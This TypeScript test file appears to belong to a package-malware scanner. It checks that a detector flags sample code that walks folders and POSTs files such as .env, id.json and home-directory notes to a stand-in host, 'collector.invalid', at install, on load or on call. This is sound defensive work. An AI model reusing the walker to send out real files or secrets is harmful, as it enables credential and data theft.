import { installed, loaded, testDetector } from "../../test/test-detector.ts";
import { fileCollection } from "./index.ts";

const walk = (names: string): string => `const fs = require("fs"), path = require("path");
  const names = ${names};
  function walk(folder) {
    for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
      const file = path.join(folder, entry.name);
      if (entry.isDirectory()) walk(file);
      else if (names.includes(entry.name)) fetch("https://collector.invalid/", { method: "POST", body: fs.readFileSync(file) });
    }
  }`;

testDetector(fileCollection, {
  fires: {
    "the project, at install": ["strong", installed(`${walk('["settings.json"]')}\nwalk(process.cwd());`)],
    "home, on loading": ["strong", loaded(`${walk('["notes.txt"]')}\nwalk(require("os").homedir());`)],
    "keys in the project, on a call": [
      "strong",
      loaded(`${walk('[".env", "id.json"]')}\nmodule.exports = () => walk(process.cwd());`),
    ],
  },
  silent: {
    "what is deployed when it is asked for": loaded(
      `${walk('["index.html"]')}\nmodule.exports = () => walk(process.cwd());`,
    ),
    "a host that its caller names": loaded(
      `${walk('["id.json"]').replace('"https://collector.invalid/"', "host")}\nlet host;\nmodule.exports = (to) => { host = to; walk(process.cwd()); };`,
    ),
  },
});
